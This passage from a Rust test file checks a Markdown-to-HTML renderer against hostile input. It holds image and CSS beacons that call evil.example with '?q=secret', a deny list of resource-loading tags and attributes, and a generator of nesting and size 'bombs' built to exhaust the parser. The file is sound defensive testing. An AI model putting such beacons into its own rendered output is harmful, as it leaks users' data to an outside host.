    assert_eq!(text(&long), format!("{}…x", "<".repeat(29)));
}

#[test]
fn e10_nothing_makes_a_browser_load() {
    let beacons = [
        "![x](https://evil.example/?q=secret)",
        "![x][r]\n\n[r]: https://evil.example/?q=secret",
        "![r]\n\n[r]: <https://evil.example/?q=secret> 'x'",
        "[![x](https://evil.example/1)](https://evil.example/2)",
        "![a ![b](https://evil.example/1) c](https://evil.example/2)",
        "| ![x](https://evil.example/1) |\n|---|\n| ![x](https://evil.example/2) |",
        "# ![x](https://evil.example/1)\n- ![x](https://evil.example/2)\n> ![x](https://evil.example/3)",
        "<style>@import url(https://evil.example/)</style>",
        "<p style=\"background:url(https://evil.example/)\">",
    ];
    let sources = beacons.iter().chain(HOSTILE).chain(DOCUMENTS);
    let loading_tags = [
        "audio", "base", "body", "embed", "form", "frame", "iframe", "image", "img", "input", "link", "meta", "object",
        "picture", "portal", "script", "source", "style", "track", "video",
    ];
    let loading_attributes = [
        "action",
        "archive",
        "background",
        "cite",
        "code",
        "codebase",
        "data",
        "formaction",
        "href",
        "icon",
        "longdesc",
        "manifest",
        "ping",
        "poster",
        "profile",
        "src",
        "srcdoc",
        "srcset",
        "style",
        "xlink:href",
    ];
    for source in sources {
        for token in tokens(&html(source)).expect("well-formed") {
            let Token::Open { tag, attributes } = token else { continue };
            assert!(!loading_tags.contains(&tag.as_str()), "<{tag}> from {source:?}");
            for (name, value) in attributes {
                // A link waits for its reader; the icon is a file of ours that the page has anyway.
                let waits = name == "href"
                    && (tag == "a"
                        || (tag == "use" && ["/icons.svg#copy", "/icons.svg#wrap-text"].contains(&value.as_str())));
                assert!(waits || !loading_attributes.contains(&name.as_str()), "{name} of <{tag}> from {source:?}");
            }
        }
    }
}

#[test]
fn e10_an_image_keeps_its_words_and_its_address() {
    assert_eq!(links("![x](https://evil.example/?q=a&b)"), ["https://evil.example/?q=a&b"]);
    assert_eq!(text("![x](https://evil.example/?q=a)"), "Image: x (evil.example)");
}

/// Sources made to cost more than they weigh, by name.
fn bombs() -> Vec<(String, String)> {
    const MANY: usize = 100_000;
    const FEW: usize = 20_000;
    let mut bombs: Vec<(String, String)> = Vec::new();
    for seed in ["[", "*", ">", "> ", "- ", "_", "`"] {
        bombs.push((format!("{seed:?} in a row"), seed.repeat(MANY / seed.len())));
    }
    let seeds = [
        "![",
        "[a](",
        "[](",
        "](",
        "[a][",
        "[a]\n",
        "[a]: b\n",
        "[a]: <",
        "<",
        "<a ",
        "<!--",
        "<?",
        "&",
        "&#",
        "\\",
        "|",
        "a|",
        "\n",
        "- \n",
        "> \n",
        "*a_",
        "**a *b",
        "~~a",
        "~",
        "1. ",
        "# a\n",
        "```\n",
        "~~~\n",
        "- a\n",
        "\t- ",
        "- > ",
        "![[]()",
        "[a](<b",
        "[a](b \"",
        "(",
        "http://",
        "http://@",
        "https://a.example ",
        "https://a)",
        "://",
        "[a](http://b) ",
        "![a](http://b) ",
        "<http://b>",
        "<div>\n",
        "<x>",
        "a\\\n",
        "- [ ] a\n",
        "a|b\n-|-\n",
        "é*",
        "\u{202e}",
        "\r",
        "\0",
        "$a$ ",
        "$",
        "$$",
        "$$a$$",
        "$$\n",
        "\\(",
        "\\[\n",
        "\\(a\\) ",
        "\\[a\\]",
        "a\n$$\na\n$$\n",
        "$a",
        "$`",
    ];
    for seed in seeds {
        bombs.push((format!("{seed:?} in a row"), seed.repeat(FEW / seed.len())));
        bombs.push((format!("{seed:?} in a row, with an end"), seed.repeat(FEW / seed.len()) + " a)](b)"));
    }
    let deep_list = (0..180).map(|depth| format!("{}- a\n", "  ".repeat(depth))).collect::<String>();
    bombs.push(("a deep list".into(), deep_list.clone() + &"\n".repeat(FEW)));
    bombs.push((
        "a deep list with a table".into(),
        deep_list + &"  ".repeat(180) + "| a |\n" + &"  ".repeat(180) + "|---|\n",
    ));
    bombs.push(("lists 10^4 deep on one line".into(), "- ".repeat(10_000) + "a\n" + &"\n".repeat(FEW)));
    bombs.push(("quotes 10^4 deep, line after line".into(), ("> ".repeat(10_000) + "a\n").repeat(10)));
    bombs.push(("numbers 10^4 deep".into(), "1. ".repeat(10_000) + "a"));
    bombs.push(("emphasis 10^4 deep".into(), "*a **b ".repeat(5_000) + &"c** d*".repeat(5_000)));
    bombs.push(("brackets 10^4 deep".into(), "[".repeat(10_000) + "a" + &"](https://b.example)".repeat(1_000)));
    bombs.push(("images 10^4 deep".into(), "![".repeat(10_000) + "a" + &"](https://b.example)".repeat(1_000)));
    bombs.push(("links 10^4 deep".into(), "[a](".repeat(10_000) + &")".repeat(10_000)));
    bombs.push((
        "a wide table".into(),
        format!("|{}\n|{}\n{}", "a|".repeat(1_000), "-|".repeat(1_000), "|b\n".repeat(1_000)),
    ));
    bombs.push(("a long table".into(), format!("|a|\n|-|\n{}", "|b|\n".repeat(30_000))));
    bombs.push((
        "many definitions".into(),
        (0..3_000).map(|i| format!("[a{i}]: https://b.example\n")).collect::<String>() + &"[a1]".repeat(3_000),
    ));
    bombs.push((
        "a long definition, often used".into(),
        format!("[a]: https://b.example/{}\n\n{}", "c".repeat(50_000), "[a]".repeat(5_000)),
    ));
    bombs.push(("a long name".into(), format!("[{}]: b\n\n[{}]", "a".repeat(FEW), "a".repeat(FEW))));
    bombs.push(("ticks of every length".into(), (1..200).map(|length| "`".repeat(length) + "a").collect()));
    for language in ["rust", "js", "python", "sql", "sh", "json", "yaml", "css", "html", "c"] {
        for seed in ["\"", "'", "/*", "<a b='", "a", "a(", "\"a\" ", "'a", "# ", "\\", "0."] {
            bombs.push((format!("{language} of {seed:?}"), format!("```{language}\n{}", seed.repeat(5_000))));
        }
    }
    bombs.push(("too long".into(), "*a* [b](https://c.example)\n\n".repeat(LONGEST_SOURCE / 20)));
    bombs.push(("too long, one line".into(), "<".repeat(LONGEST_SOURCE + 1)));
    bombs
}

/// Elements within each other: those of Markdown, and in the innermost a formula.
const DEEPEST: usize = 40 + 64;

/// The room a browser gives to WebAssembly is smaller than this.
const SMALL_STACK: usize = 512 * 1024;

#[test]
fn h04_bombs_do_not_go_off() {
    let judge = || {
        for (name, source) in bombs() {
            let report = checked(&source);
            let size = html(&source).len();
            // A code block of one line and a link are the heaviest for their source.
            assert!(size <= 150 * source.len() + 10_000, "{name}: {size} bytes from {}", source.len());
            assert!(report.elements <= 150_000, "{name}: {} elements", report.elements);
            assert!(report.deepest <= DEEPEST, "{name}: {} deep", report.deepest);
        }
    };
    let thread = std::thread::Builder::new().stack_size(SMALL_STACK).spawn(judge).expect("a thread starts");
    thread.join().expect("no bomb went off");
}

#[test]
fn h04_nesting_ends_and_the_text_stays() {
    let source: String = (0..50).map(|depth| format!("{}- item{depth}.\n", "  ".repeat(depth))).collect();
    let report = checked(&source);
    assert!(report.deepest <= 40);
    for depth in 0..50 {
        assert!(report.text.contains(&format!("item{depth}.")), "item{depth} is lost");
    }
    let report = checked(&format!("{}deep", "> ".repeat(60)));
    assert_eq!((report.deepest, report.text.trim()), (32, "deep"));
}

#[test]
fn h04_lists_and_tables_at_the_deepest_place_stay_whole() {
    for depth in 20..45 {
        let quotes = "> ".repeat(depth);
        checked(&format!("{quotes}| a | b |\n{quotes}|---|---|\n{quotes}| *c* | [d](https://e.example) |\n"));
        checked(&format!("{quotes}- a\n{quotes}- b\n{quotes}  1. c\n"));
        checked(&format!("{quotes}- a\n\n{quotes}- b\n{quotes}  ```\n{quotes}  c\n"));
        checked(&format!("{quotes}*a **b ~~c [d](https://e.example)~~***"));
    }
}

#[test]
fn h04_what_is_too_much_is_shown_as_it_is() {
    let nested = format!("*before*\n\n{}a\n", "> ".repeat(10_000));
    assert_eq!(text(&nested), nested.trim_end());
    assert_eq!(html("> ".repeat(65).as_str()).matches("<blockquote>").count(), 0);
    assert!(html("- - - - - - - - - - - - - - - - - - - -").contains("<hr>"), "a long rule is no attack");

    let long = format!("*a*\n{}", "b <c>\n".repeat(LONGEST_SOURCE / 6 + 1));
    let pieces = blocks(&long);
    assert!(pieces.len() > 10);
    assert!(pieces.iter().all(|piece| piece.html.starts_with("<pre class=\"plain\">") && piece.html.len() < 64 * 1024));
    assert_eq!(text(&long), long.trim_end());

    let many = "*a*\n\n".repeat(60_000);
    let shown = blocks(&many);
    assert!(
        shown[0].html.contains("<em>") && shown.last().expect("blocks").html.starts_with("<pre class=\"plain\">*a*")
    );
    assert_eq!(text(&many).matches('a').count(), 60_000, "nothing is lost on the way");
}
